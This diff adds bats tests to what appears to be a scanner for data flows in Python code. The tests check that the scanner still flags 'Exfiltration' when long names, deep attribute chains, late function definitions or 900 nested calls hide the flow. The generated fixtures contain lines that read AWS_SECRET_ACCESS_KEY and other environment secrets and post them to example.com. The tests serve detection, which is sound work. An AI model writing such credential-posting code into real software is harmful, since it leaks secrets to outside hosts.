@@ -199,3 +199,39 @@ PY
 	assert_output "7 100 files.dropzone.net true true
 12 40 null false false"
 }
+
+@test "no silent cap: a flow through a 100-byte variable name, after 520 other variables, through a 40-deep attribute chain" {
+	long=$(printf 'v%.0s' {1..100})
+	{
+		echo 'import os, requests'
+		for i in $(seq 1 520); do echo "d$i = $i"; done
+		echo "$long = os.environ['AWS_SECRET_ACCESS_KEY']"
+		echo "requests.post('https://example.com/c', data=$long)"
+		echo "class O: pass"
+		echo "o = O()"
+		printf 'o'; for i in $(seq 1 40); do printf '.a'; done; echo " = os.environ['TOKEN']"
+		printf "requests.post('https://example.com/d', data=o"; for i in $(seq 1 40); do printf '.a'; done; echo ")"
+	} >m.py
+	run bash -c "$(declare -f flows scan parse_stage file_record); flows m.py | cut -d' ' -f1-5"
+	assert_output "$(printf '523 Exfiltration import 120 os.environ\n527 Exfiltration import 120 os.environ')"
+}
+
+@test "no silent cap: a function past the 1024th still gets a summary (its flow is found)" {
+	{
+		echo 'import os, requests'
+		for i in $(seq 1 1100); do echo "def f$i(): return $i"; done
+		echo 'def grab(): return os.environ["AWS_SECRET_ACCESS_KEY"]'
+		echo 'requests.post("https://example.com/c", data=grab())'
+	} >m.py
+	run bash -c "$(declare -f flows scan parse_stage file_record); flows m.py | cut -d' ' -f1-4"
+	assert_output "1103 Exfiltration import 120"
+}
+
+@test "no silent cap: a flow through 900 nested calls (as deep as aura-parse keeps) is followed" {
+	python3 -c "
+print('import os, requests')
+print('requests.post(\"https://example.com/c\", data=' + 'str(' * 900 + 'os.environ[\"K\"]' + ')' * 900 + ')')" >m.py
+	# jq cannot read trees this deep: the hit records are picked out by text
+	run bash -c "$(declare -f scan parse_stage file_record); scan m.py | grep '^{\"type\":\"hit\"' | grep -o '\"detection\":\"Exfiltration\"'"
+	assert_output '"detection":"Exfiltration"'
+}
